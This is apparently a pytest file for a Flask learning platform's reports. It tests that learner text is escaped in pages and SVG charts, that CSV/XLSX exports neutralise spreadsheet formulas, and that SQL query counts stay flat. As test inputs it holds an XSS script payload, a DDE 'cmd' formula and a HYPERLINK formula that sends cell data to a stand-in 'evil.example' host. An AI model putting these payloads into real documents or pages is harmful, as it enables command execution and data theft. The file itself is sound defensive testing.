"""Learner-entered text in reports: escaped on pages and in SVG, neutralised in CSV and XLSX;
and reports whose number of SQL statements does not grow with the population."""

import pytest
import sqlalchemy as sa
from flask import Flask

from depomi_learn.extensions import db
from depomi_learn.reports.charts import Bar, bar_chart, column_chart
from depomi_learn.reports.exports import csv_field, neutralise
from tests.helpers.report_pages import csv_rows, xlsx_cells
from tests.helpers.reports import (
    FORMULA_INSTITUTION,
    FORMULA_JOB,
    XSS_NAME,
    add_learner,
    build_world,
    enrol_learner,
)

PAGES = [
    "/coordinate/",
    "/coordinate/breakdown/institution",
    "/coordinate/breakdown/job_function",
    "/coordinate/learners?metric=learners",
    "/coordinate/learners?metric=overdue",
    "/coordinate/learners/{s_tiznit}",
]


@pytest.fixture
def world(app):
    return build_world(app)


@pytest.mark.parametrize("path", PAGES)
def test_learner_text_is_escaped_on_every_page(world, auth, client, path):
    auth.login("c@souss.ma")
    html = client.get(path.format(**world)).get_data(as_text=True)
    assert XSS_NAME not in html
    assert "<b>عربي</b>" not in html
    if "learners" in path:
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "text",
    ["=cmd|' /C calc'!A0", "+212 600", "-2+3", "@SUM(1)", "\t=1", "\r=1"],
)
def test_formula_starts_are_neutralised(text):
    assert neutralise(text) == "'" + text
    assert neutralise("Commune d'Agadir") == "Commune d'Agadir"


@pytest.mark.parametrize(
    "export",
    ["learners.csv?metric=learners", "institution.csv", "job_function.csv"],
)
def test_csv_exports_neutralise_formulas(world, auth, client, export):
    auth.login("c@souss.ma")
    cells = [
        cell for row in csv_rows(client.get(f"/coordinate/export/{export}").data) for cell in row
    ]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    expected = {
        "learners.csv?metric=learners": "'" + FORMULA_INSTITUTION,
        "institution.csv": "'" + FORMULA_INSTITUTION,
        "job_function.csv": "'" + FORMULA_JOB,
    }[export]
    assert expected in cells
    if "learners" in export:
        assert XSS_NAME in cells  # text, not a formula: kept as typed
        assert "'+212 Sans Province" in cells


SEMICOLON_NAME = "Ali;=1+1;x"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
FORMULA_CHARACTERS = ("=", "+", "-", "@")


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("Ali;=1+1;x", '"Ali;\'=1+1;x"'),
        ('=HYPERLINK("u","v")', '"\'=HYPERLINK(""u"",""v"")"'),
        ("a,@SUM(1)", '"a,\'@SUM(1)"'),
        ("ligne\n-1", '"ligne\n\'-1"'),
        ("Commune d'Agadir", "Commune d'Agadir"),
    ],
)
def test_csv_fields_are_neutralised_after_every_separator_and_quoted(text, field):
    assert csv_field(text) == field
    assert csv_field("12,5", number=True) == '"12,5"'


def naive_cells(data: bytes) -> list[str]:
    """Split lines as French Excel does: on ';' and ',' alike, dropping a cell's leading quote."""
    text = data.decode("utf-8-sig")
    pieces = [
        piece for line in text.splitlines() for part in line.split(";") for piece in part.split(",")
    ]
    return [piece.lstrip('"') for piece in pieces]


@pytest.mark.parametrize("export", ["learners.csv?metric=learners", "institution.csv"])
def test_semicolon_and_hyperlink_payloads_stay_text_in_csv(world, app, auth, client, export):
    learner = add_learner(app, "ali@souss.ma", name=SEMICOLON_NAME, institution=HYPERLINK)
    enrol_learner(app, learner, "course-a", started=True)
    auth.login("c@souss.ma")
    data = client.get(f"/coordinate/export/{export}").data
    cells = [cell for row in csv_rows(data) for cell in row]
    assert "'" + HYPERLINK in cells
    if "learners" in export:
        assert "Ali;'=1+1;x" in cells
    assert [cell for cell in naive_cells(data) if cell.startswith(FORMULA_CHARACTERS)] == []


@pytest.mark.parametrize("export", ["learners.xlsx?metric=learners", "dashboard.xlsx"])
def test_xlsx_exports_store_formulas_as_quoted_text(world, auth, client, export):
    auth.login("c@souss.ma")
    cells = xlsx_cells(client.get(f"/coordinate/export/{export}").data)
    assert not [c for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert risky
    for cell in risky:
        assert cell.data_type == "s"
        assert cell.quotePrefix


def test_svg_charts_escape_their_labels():
    bars = [Bar("<script>alert(1)</script>", 3, "3"), Bar('"/><text>x</text>', 1, "<1>")]
    for chart in (bar_chart, column_chart):
        svg = str(chart("c<1>", "T<i>tle", bars, rtl=False))
        assert "<script>" not in svg
        assert "&lt;script&gt;" in svg
        assert "<text>x</text>" not in svg
        assert "T&lt;i&gt;tle" in svg
        assert svg.count("<svg") == 1


def test_svg_charts_mirror_in_rtl():
    bars = [Bar("أكادير", 10, "10"), Bar("تيزنيت", 5, "5")]
    ltr, rtl = str(bar_chart("a", "t", bars, rtl=False)), str(bar_chart("a", "t", bars, rtl=True))
    assert 'x="192"' in ltr  # labels end just before the bars, on the left
    assert 'x="368"' in rtl  # ... and on the right in Arabic
    assert "أكادير" in rtl


def _statements(app: Flask, client, url: str) -> int:
    count = 0

    def count_statement(*_args) -> None:
        nonlocal count
        count += 1

    with app.app_context():
        engine = db.engine
    sa.event.listen(engine, "before_cursor_execute", count_statement)
    try:
        response = client.get(url)
        assert response.status_code == 200
        response.get_data()
    finally:
        sa.event.remove(engine, "before_cursor_execute", count_statement)
    return count


REPORT_URLS = [
    "/coordinate/",
    "/coordinate/?province=agadir-ida-outanane",
    "/coordinate/breakdown/institution",
    "/coordinate/learners?metric=enrolled&sort=-due_at",
    "/coordinate/learners?metric=learners",
    "/coordinate/learners/{s_agadir}",
    "/coordinate/assignments",
    "/coordinate/export/learners.csv?metric=enrolled",
    "/coordinate/export/dashboard.xlsx",
    "/api/reports/dashboard",
    "/api/reports/learners?metric=completed",
]


def test_reports_run_as_many_statements_for_many_learners_as_for_few(world, app, auth, client):
    from depomi_learn.operations.demo import populate

    with app.app_context():  # a few of everything first: a report may skip a query on nothing
        populate(10, seed=3)
        db.session.commit()
    auth.login("n@depomi.ma")
    urls = [u.format(**world) for u in REPORT_URLS]
    before = {url: _statements(app, client, url) for url in urls}
    with app.app_context():
        populate(300, seed=7)
        db.session.commit()
    after = {url: _statements(app, client, url) for url in urls}
    assert after == before
